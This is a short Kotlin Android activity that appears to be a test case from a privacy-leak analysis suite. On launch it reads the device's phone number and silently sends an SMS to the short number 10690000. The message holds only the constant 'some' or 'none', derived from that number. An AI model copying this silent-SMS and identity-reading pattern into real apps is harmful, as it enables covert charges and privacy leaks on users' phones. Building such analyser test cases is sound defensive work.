package cn.privlens.suite.elvis_replaced

import android.app.Activity
import android.content.Context
import android.os.Bundle
import android.telephony.SmsManager
import android.telephony.TelephonyManager

class Main : Activity() {
    private fun id(): String? = (getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager).line1Number
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        val text = id()?.let { "some" } ?: "none"
        SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null)
    }
}
